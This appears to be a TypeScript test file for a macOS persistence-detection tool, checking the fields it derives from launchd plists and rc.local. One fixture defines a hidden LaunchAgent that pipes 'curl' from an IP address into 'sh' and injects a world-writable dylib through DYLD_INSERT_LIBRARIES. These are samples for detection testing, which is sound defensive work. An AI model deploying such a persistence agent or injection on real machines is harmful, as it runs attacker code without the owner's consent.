import { describe, expect, it } from 'vitest';
import { createFactContext } from '../../../../main/detect/facts/fact-context.ts';
import { macosServiceFields } from '../../../../main/detect/facts/macos/macos-service-fields.ts';
import { FieldRecord } from '../../../../main/detect/sigma/field-record.ts';
import { MACOS_SERVICE_FIELDS } from '../../../../main/detect/taxonomy.ts';
import { memoryEvidence } from '../../../../main/evidence/memory-evidence.ts';
import type { ServiceRecord } from '../../../../shared/model/service-record.ts';
import { runTriage } from '../../../support/run-triage.ts';
import { type FileSpec, unixTree } from '../../../support/unix-fixture.ts';

async function fieldsOf(files: Readonly<Record<string, FileSpec>>, name: string): Promise<FieldRecord> {
  const result = await runTriage(memoryEvidence(unixTree('macos', { name, files })), []);
  const record = result.services.find((one) => one.name === name);
  if (record === undefined) throw new Error(`no ${name}`);
  const context = createFactContext({
    services: result.services,
    binaries: result.binaries,
    filesComplete: true,
  });
  return new FieldRecord(macosServiceFields(record, context));
}

const AGENT = {
  '/Users/alice/Library/LaunchAgents/.com.example.x.plist': {
    plist: {
      Label: 'com.example.x',
      ProgramArguments: ['/bin/sh', '-c', 'curl -s http://203.0.113.9/x | sh; osascript -e "beep"'],
      RunAtLoad: true,
      KeepAlive: { PathState: { '/tmp/x': true }, SuccessfulExit: false },
      WatchPaths: ['/Users/alice/Desktop'],
      StartCalendarInterval: { Hour: 3 },
      EnvironmentVariables: { DYLD_INSERT_LIBRARIES: '/Users/Shared/l.dylib', PATH: '/bin' },
      runatload: true,
      Nonsense: 1,
    },
  },
  '/Users/Shared/l.dylib': { content: 'x', mode: '0666', owner: 'alice' },
} as const;

describe('macosServiceFields', () => {
  it('computes every field of the taxonomy', async () => {
    const fields = await fieldsOf(AGENT, 'com.example.x');
    const values = Object.keys(MACOS_SERVICE_FIELDS).map((field) => [field, fields.get(field)] as const);
    for (const [field, value] of values) {
      const { type } = MACOS_SERVICE_FIELDS[field as keyof typeof MACOS_SERVICE_FIELDS];
      if (value === undefined || value === null) continue;
      expect(Array.isArray(value) ? 'list' : typeof value, field).toBe(type === 'text' ? 'string' : type);
    }
  });

  it('tells what an agent does', async () => {
    const fields = await fieldsOf(AGENT, 'com.example.x');
    const expected = {
      Label: 'com.example.x',
      Kind: 'agent',
      Mechanism: 'launchd',
      Location: 'user',
      Owner: 'alice',
      Account: 'alice',
      PlistName: '.com.example.x.plist',
      NameMatchesLabel: false,
      Hidden: true,
      ExtensionOdd: false,
      KeepAlive: true,
      KeepAliveConditions: ['PathState:/tmp/x', 'SuccessfulExit'],
      HasCalendarInterval: true,
      TriggerKinds: ['run-at-load', 'keep-alive', 'calendar', 'watch-path'],
      MiscasedKeys: ['runatload'],
      UnknownKeys: ['Nonsense'],
      MainProgram: '/bin/sh',
      MainDirectoryClass: 'sealed',
      Sealed: false,
      AppleLabel: false,
      AppleLabelOutside: false,
      InjectionVariables: ['DYLD_INSERT_LIBRARIES=/Users/Shared/l.dylib'],
      NameAnomalies: ['hidden'],
      OrphanedBackgroundItem: false,
      RootProgramUserWritable: false,
    };
    for (const [field, value] of Object.entries(expected)) expect(fields.get(field), field).toEqual(value);
    expect(fields.get('Programs')).toEqual(expect.arrayContaining(['sh', 'curl', 'osascript']));
    expect(fields.get('CommandTraits')).toEqual(
      expect.arrayContaining(['pipe-to-shell', 'download', 'ip-address-url', 'osascript-eval']),
    );
    expect(fields.get('DirectoryClasses')).toEqual(expect.arrayContaining(['sealed', 'users-shared']));
    expect(fields.get('WritablePaths')).toContain('/Users/Shared/l.dylib: everyone');
    expect(fields.get('WritableBy')).toContain('everyone');
  });

  it('shows Program before the arguments', async () => {
    const fields = await fieldsOf(
      {
        '/Library/LaunchDaemons/com.example.y.plist': {
          plist: {
            Label: 'com.example.y',
            Program: '/usr/local/bin/y',
            ProgramArguments: ['why', '-a', 'b c'],
          },
        },
      },
      'com.example.y',
    );
    expect(fields.get('CommandLine')).toBe("/usr/local/bin/y -a 'b c'");
    expect(fields.get('MissingPayloads')).toEqual(['image']);
    expect(fields.get('MainState')).toBe('missing');
    expect(fields.get('PlistOwner')).toBe('root');
  });

  it('reads what AppleScript hands to the shell', async () => {
    const fields = await fieldsOf(
      {
        '/Users/alice/Library/LaunchAgents/com.example.z.plist': {
          plist: {
            Label: 'com.example.z',
            ProgramArguments: ['/usr/bin/osascript', '-e', 'do shell script "/usr/bin/tcpdump -w \\"/x\\""'],
          },
        },
      },
      'com.example.z',
    );
    expect(fields.get('Programs')).toEqual(expect.arrayContaining(['osascript', 'tcpdump']));
  });

  it('shows entries that are no jobs', async () => {
    const fields = await fieldsOf(
      { '/private/etc/rc.local': '#!/bin/sh\nlaunchctl load /Users/Shared/x.plist\n' },
      'rc.local',
    );
    const expected = {
      Kind: 'script',
      Mechanism: 'rc-local',
      Account: 'root',
      Trigger: 'boot',
      PlistPath: '/etc/rc.local',
      MainProgram: '/etc/rc.local',
      CommandTraits: ['launchctl-load'],
    };
    for (const [field, value] of Object.entries(expected)) expect(fields.get(field), field).toEqual(value);
    for (const field of ['Label', 'Location', 'AppleLabel', 'NameMatchesLabel', 'ExtensionOdd'])
      expect(fields.get(field), field).toBeUndefined();
  });

  it('never throws for a record with nothing in it', () => {
    const bare: ServiceRecord = {
      type: 'service',
      id: 'macos:x',
      platform: 'macos',
      kind: 'other',
      name: '',
      displayName: null,
      description: null,
      command: null,
      image: null,
      payloads: [],
      startMode: null,
      enabled: null,
      state: 'configured',
      account: null,
      lastChanged: null,
      provenance: [],
    };
    const fields = new FieldRecord(macosServiceFields(bare, createFactContext({ services: [bare] })));
    for (const field of Object.keys(MACOS_SERVICE_FIELDS)) fields.get(field);
  });
});
